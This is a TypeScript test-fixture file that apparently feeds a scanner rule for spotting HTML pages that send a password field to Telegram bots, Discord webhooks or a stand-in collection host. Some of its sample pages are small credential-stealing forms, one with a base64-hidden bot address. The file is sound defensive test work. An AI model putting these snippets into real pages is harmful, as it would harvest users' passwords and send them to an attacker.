import type { Examples } from "@doorward/core";
import { encodeBase64 } from "../../text/example-bytes.ts";
import { makePage, makeSignIn } from "../example-pages.ts";

const bot = "https://api.telegram.org/bot1:x/sendMessage";
const writePage = (address: string) =>
  makePage(
    `<input type="password" id="p"><script>go.onclick = function () { fetch(${address}, { method: "POST", body: p.value }) }</script>`,
  );

/** Pages that do it, and pages that only look like it. */
export const examples: Examples = {
  hits: [
    { name: "a bot of Telegram", delivered: true, files: { "Document.html": writePage(`"${bot}"`) } },
    {
      name: "a bot whose address is encoded",
      delivered: true,
      files: { "Document.html": writePage(`atob("${encodeBase64(bot)}")`) },
    },
    {
      name: "a hook of Discord",
      delivered: true,
      files: { "Document.html": writePage('"https://discord.com/api/webhooks/1/x"') },
    },
  ],
  misses: [
    {
      name: "a page that tells a chat of an order",
      why: "It asks for no secret.",
      delivered: true,
      files: { "order.html": makePage(`<input name="item" id="p"><script>fetch("${bot}?text=" + p.value)</script>`) },
    },
    {
      name: "a page that explains bots",
      why: "It names the address in its text and sends nothing.",
      delivered: true,
      files: { "guide.html": makePage(`<p>Send to ${bot} and set a password.</p><input type="password">`) },
    },
    {
      name: "a form that signs in to a server of its own",
      why: "Another rule tells of it, which asks for a look.",
      delivered: true,
      files: { "Document.html": makeSignIn("https://intranet.example/in") },
    },
  ],
  evasions: [
    {
      name: "a server in between",
      caughtBy: "file/page-sends-secret",
      delivered: true,
      files: { "Document.html": writePage('"https://collect.example/in"') },
    },
  ],
};
